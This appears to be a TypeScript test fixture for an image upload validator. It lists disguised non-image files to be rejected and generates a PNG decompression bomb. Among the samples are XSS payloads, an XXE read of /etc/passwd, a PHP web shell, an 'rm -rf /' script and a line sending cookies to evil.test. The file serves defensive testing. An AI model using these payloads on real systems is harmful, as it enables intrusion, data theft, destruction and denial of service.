import { deflateSync, gzipSync } from 'node:zlib';

const text = (content: string) => Buffer.from(content, 'latin1');
const padded = (head: string | number[], length = 600) => {
  const bytes = typeof head === 'string' ? text(head) : Buffer.from(head);
  return Buffer.concat([bytes], Math.max(length, bytes.length));
};
const brand = (name: string) => padded(`\0\0\0\x18ftyp${name}\0\0\0\0${name}mif1`);
const riff = (kind: string) => padded(`RIFF\x40\0\0\0${kind}`);

/** Files of all kinds that are rejected; tests upload each of them as a picture. */
export const disguised: [what: string, content: Buffer][] = [
  ['SVG', text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>')],
  ['SVG behind a prolog', text('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')],
  ['packed SVG', gzipSync('<svg xmlns="http://www.w3.org/2000/svg"/>')],
  ['HTML', text('<!doctype html><script>alert(1)</script>')],
  ['HTML behind a byte order mark', text('\xef\xbb\xbf<html><body onload=alert(1)>')],
  ['XML that reads files', text('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>')],
  ['XSLT', text('<?xml version="1.0"?><xsl:stylesheet version="1.0"/>')],
  ['GIF', padded('GIF89a\x01\0\x01\0')],
  ['an old GIF', padded('GIF87a\x01\0\x01\0')],
  ['GIF that is JavaScript too', text('GIF89a/*'.padEnd(300) + '*/=alert(1)//')],
  ['BMP', padded('BM\x36\0\0\0')],
  ['icon', padded([0, 0, 1, 0, 1, 0, 16, 16])],
  ['TIFF', padded('II*\0\x08\0\0\0')],
  ['big-endian TIFF', padded('MM\0*\0\0\0\x08')],
  ['Photoshop', padded('8BPS\0\x01')],
  ['HEIC', brand('heic')],
  ['AVIF', brand('avif')],
  ['JPEG XL', padded([0xff, 0x0a])],
  ['JPEG 2000', padded('\0\0\0\x0cjP  \r\n\x87\n')],
  ['QuickTime', brand('qt  ')],
  ['PDF behind HTML', text('<html>%PDF-1.4\n1 0 obj <<>> endobj\n%%EOF')],
  ['PDF', text('%PDF-1.4\n1 0 obj <<>> endobj\ntrailer <<>>\n%%EOF\n')],
  ['PostScript', text('%!PS-Adobe-3.0 EPSF-3.0\n')],
  ['ZIP', padded('PK\x03\x04\x14\0')],
  ['empty ZIP', text('PK\x05\x06'.padEnd(22, '\0'))],
  ['gzip', gzipSync('x'.repeat(500))],
  ['7z', padded("7z\xbc\xaf'\x1c")],
  ['RAR', padded('Rar!\x1a\x07\x01\0')],
  ['zlib', deflateSync('x'.repeat(500))],
  ['Windows program', padded('MZ\x90\0\x03')],
  ['Linux program', padded('\x7fELF\x02\x01\x01')],
  ['WebAssembly', padded('\0asm\x01\0\0\0')],
  ['shell script', text('#!/bin/sh\nrm -rf /\n')],
  ['PHP', text('<?php system($_GET[0]);')],
  ['JavaScript', text('fetch("//evil.test/" + document.cookie)')],
  ['JSON', text('{"image":"data:image/png;base64,"}')],
  ['nothing', Buffer.alloc(0)],
  ['zeros', Buffer.alloc(2_000)],
  ['half a signature', text('\x89PNG')],
  ['MP3', padded('ID3\x04\0')],
  ['WAV', riff('WAVEfmt ')],
  ['AVI', riff('AVI LIST')],
  ['Matroska', padded('\x1a\x45\xdf\xa3\x93\x42\x82\x88matroska')],
  ['font', padded('wOF2\0\x01\0\0')],
  ['SQLite', padded('SQLite format 3\0')],
];

/** A PNG of about 30 kB that claims 16,384 × 16,384 pixels; decoding it would take 1 GB. */
export function decompressionBomb(side = 16_384): Buffer {
  const head = Buffer.alloc(13);
  head.writeUInt32BE(side, 0);
  head.writeUInt32BE(side, 4);
  // One bit of greyscale per pixel.
  head.set([1, 0, 0, 0, 0], 8);
  const pixels = deflateSync(Buffer.alloc(side * (side / 8 + 1)));
  return Buffer.concat([
    text('\x89PNG\r\n\x1a\n'),
    pngChunk('IHDR', head),
    pngChunk('IDAT', pixels),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

function pngChunk(type: string, content: Buffer): Buffer {
  const size = Buffer.alloc(4);
  size.writeUInt32BE(content.length);
  const typed = Buffer.concat([text(type), content]);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc(typed));
  return Buffer.concat([size, typed, sum]);
}

function crc(bytes: Buffer): number {
  let sum = 0xffffffff;
  for (const byte of bytes) {
    sum ^= byte;
    for (let bit = 0; bit < 8; bit++) sum = sum & 1 ? (sum >>> 1) ^ 0xedb88320 : sum >>> 1;
  }
  return (sum ^ 0xffffffff) >>> 0;
}
